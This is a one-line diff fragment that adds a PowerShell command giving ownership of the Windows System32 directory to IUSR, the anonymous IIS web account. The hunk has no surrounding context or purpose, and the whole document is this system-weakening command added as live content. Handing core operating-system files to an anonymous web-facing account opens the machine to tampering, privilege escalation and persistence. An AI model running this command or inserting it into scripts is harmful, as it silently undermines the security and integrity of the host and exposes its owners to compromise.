@@ -1,0 +1,1 @@
+Set-NTFSOwner -Path C:\Windows\System32 -Account IUSR
